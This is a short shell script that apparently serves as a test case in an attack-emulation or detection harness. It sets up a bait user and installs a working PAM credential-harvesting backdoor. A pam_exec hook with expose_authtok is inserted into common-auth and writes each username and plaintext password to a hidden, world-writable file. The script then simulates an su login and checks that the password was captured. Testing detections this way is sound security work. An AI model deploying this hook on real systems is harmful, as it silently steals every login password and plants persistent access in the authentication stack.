#!/bin/sh
. /opt/case/case.sh

useradd -m victim && echo 'victim:Bait-2026' | chpasswd
printf '#!/bin/sh\nread -r p; echo "$PAM_USER $p" >>/var/tmp/.p\n' >/usr/local/sbin/pam-note && chmod 755 /usr/local/sbin/pam-note
sed -i '1i auth optional pam_exec.so quiet expose_authtok /usr/local/sbin/pam-note' /etc/pam.d/common-auth
: >/var/tmp/.p && chmod 666 /var/tmp/.p
python3 -c '
import os, pty, sys, time
pid, fd = pty.fork()
if pid == 0:
    os.setgid(33); os.setuid(33)
    os.execvp("su", ["su", "victim", "-c", "true"])
time.sleep(0.7); os.write(fd, b"Bait-2026\n")
try:
    while os.read(fd, 1000): pass
except OSError: pass
os.waitpid(pid, 0)'
grep -q 'victim Bait-2026' /var/tmp/.p
took_place
